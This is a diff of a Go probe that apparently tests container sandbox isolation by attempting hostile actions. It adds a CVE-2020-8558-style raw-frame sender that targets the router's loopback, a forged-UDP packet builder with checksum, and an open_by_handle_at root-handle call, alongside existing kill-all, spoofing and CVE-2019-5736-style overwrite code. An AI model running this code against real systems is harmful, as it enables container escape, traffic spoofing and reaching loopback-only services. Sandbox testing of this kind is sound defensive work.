@@ -25,12 +25,13 @@ import (
 //	fill=PATH:MIB        write so much to a file, and say how much fitted
 //	flood=MIB            print so much without a line's end, then "end"
 //	kill-all             SIGKILL to all processes that can be seen
-//	abort                end by SIGABRT, with a core dump if there may be one
+//	abort                end by SIGABRT, with a core dump if there may be one, in a child
 //	attack               try what a container may not, and say what came of it
 //	overwrite            write to the programs of all processes, as CVE-2019-5736 did
 //	reach=HOST:PORT      say whether a TCP connection can be made
 //	spoof=IP:TARGET:PORT send UDP with another's address to the target, and tell
 //	                     the neighbours by ARP that IP is here
+//	local=PORT           send UDP to the router's own loopback, from outside of it
 //	udp=PORT             print what comes there, for ever
 //	stat=PATH            print type, mode and owner
 //	ls=PATH              print a directory's names
@@ -47,6 +48,11 @@ func hostile(verb, value string) (known bool, err error) {
 	case "kill-all":
 		fmt.Println("kill:", syscall.Kill(-1, syscall.SIGKILL))
 	case "abort":
+		// The first process of a container can't be ended by a signal of its own.
+		cmd := exec.Command("/probe", "abort-now")
+		cmd.Run()
+		fmt.Println("ended by", cmd.ProcessState)
+	case "abort-now":
 		var limit syscall.Rlimit
 		if err := syscall.Getrlimit(syscall.RLIMIT_CORE, &limit); err != nil {
 			return true, err
@@ -74,6 +80,8 @@ func hostile(verb, value string) (known bool, err error) {
 			return true, errors.New("want IP:TARGET:PORT")
 		}
 		return true, spoof(net.ParseIP(parts[0]).To4(), net.ParseIP(parts[1]).To4(), parts[2])
+	case "local":
+		return true, local(value)
 	case "udp":
 		return true, listenUDP(value)
 	case "stat":
@@ -194,6 +202,7 @@ func attack() {
 			return nil
 		}
 	}
+	handle := [16]byte{0: 8, 4: 1, 8: 2} // the root directory's, as file systems have it
 	text := func(s string) uintptr { return uintptr(unsafe.Pointer(syscall.StringBytePtr(s))) }
 	for _, a := range []struct {
 		name string
@@ -249,7 +258,7 @@ func attack() {
 			_, err := syscall.Klogctl(3, make([]byte, 16))
 			return err
 		}},
-		{"open_by_handle_at", call(304, 0, text("\x08\x00\x00\x00\x01\x00\x00\x00\x02\x00\x00\x00\x00\x00\x00\x00"), 0)},
+		{"open_by_handle_at", call(304, 0, uintptr(unsafe.Pointer(&handle)), 0)},
 		{"userfaultfd", call(323, 0)},
 		{"add an address", func() error {
 			c, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0)
@@ -284,6 +293,7 @@ func attack() {
 // processes that come while it looks: the OCI runtime's, when somebody runs a
 // command in this container.
 func overwrite() {
+	debug.SetGCPercent(100)
 	own, _ := os.Readlink("/proc/self/exe")
 	fmt.Println("overwrite: begun")
 	seen := map[string]bool{}
@@ -374,24 +384,85 @@ func spoof(mine, target net.IP, port string) error {
 	if err != nil {
 		return fmt.Errorf("raw socket: %w", err)
 	}
-	n, err := strconv.Atoi(port)
+	packet, err := udp(mine, target, port, "forged")
 	if err != nil {
 		return err
 	}
-	text := []byte("forged")
-	packet := make([]byte, 28)
-	packet[0], packet[8], packet[9] = 0x45, 64, syscall.IPPROTO_UDP
-	binary.BigEndian.PutUint16(packet[2:], uint16(28+len(text)))
-	copy(packet[12:], mine)
-	copy(packet[16:], target)
-	binary.BigEndian.PutUint16(packet[20:], 4444)
-	binary.BigEndian.PutUint16(packet[22:], uint16(n))
-	binary.BigEndian.PutUint16(packet[24:], uint16(8+len(text)))
-	packet = append(packet, text...)
 	for range 20 {
 		err = syscall.Sendto(ip, packet, 0, &syscall.SockaddrInet4{Addr: [4]byte(target)})
 	}
 	fmt.Println("forged packets sent:", err)
 	fmt.Fprint(own, "honest again")
+	return nil
+}
+
+// udp is an IP packet.
+func udp(from, to net.IP, port, text string) ([]byte, error) {
+	n, err := strconv.Atoi(port)
+	if err != nil {
+		return nil, err
+	}
+	packet := make([]byte, 28)
+	packet[0], packet[8], packet[9] = 0x45, 64, syscall.IPPROTO_UDP
+	binary.BigEndian.PutUint16(packet[2:], uint16(28+len(text)))
+	copy(packet[12:], from)
+	copy(packet[16:], to)
+	sum := uint32(0)
+	for i := 0; i < 20; i += 2 {
+		sum += uint32(binary.BigEndian.Uint16(packet[i:]))
+	}
+	for sum > 0xffff {
+		sum = sum>>16 + sum&0xffff
+	}
+	binary.BigEndian.PutUint16(packet[10:], ^uint16(sum))
+	binary.BigEndian.PutUint16(packet[20:], 4444)
+	binary.BigEndian.PutUint16(packet[22:], uint16(n))
+	binary.BigEndian.PutUint16(packet[24:], uint16(8+len(text)))
+	return append(packet, text...), nil
+}
+
+// local sends frames for 127.0.0.1 to the router, as CVE-2020-8558 did.
+func local(port string) error {
+	link, err := net.InterfaceByName("eth0")
+	if err != nil {
+		return err
+	}
+	own, err := net.Dial("udp4", "172.31.255.250:9")
+	if err != nil {
+		return err
+	}
+	fmt.Fprint(own, "who is the router?")
+	time.Sleep(200 * time.Millisecond)
+	table, err := os.ReadFile("/proc/net/arp")
+	if err != nil {
+		return err
+	}
+	var routers []net.HardwareAddr
+	for line := range strings.Lines(string(table)) {
+		for _, field := range strings.Fields(line) {
+			if mac, err := net.ParseMAC(field); err == nil {
+				routers = append(routers, mac)
+			}
+		}
+	}
+	raw, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0)
+	if err != nil {
+		return fmt.Errorf("packet socket: %w", err)
+	}
+	sent := 0
+	for _, router := range routers {
+		for _, from := range []net.IP{own.LocalAddr().(*net.UDPAddr).IP.To4(), {127, 0, 0, 1}, {127, 0, 0, 2}} {
+			packet, err := udp(from, net.IP{127, 0, 0, 1}, port, "from a task")
+			if err != nil {
+				return err
+			}
+			frame := append(append(append([]byte{}, router...), link.HardwareAddr...), 8, 0)
+			if err := syscall.Sendto(raw, append(frame, packet...), 0, &syscall.SockaddrLinklayer{Ifindex: link.Index}); err != nil {
+				return err
+			}
+			sent++
+		}
+	}
+	fmt.Printf("%d frames sent for 127.0.0.1 by %v\n", sent, routers)
 	return nil
 }
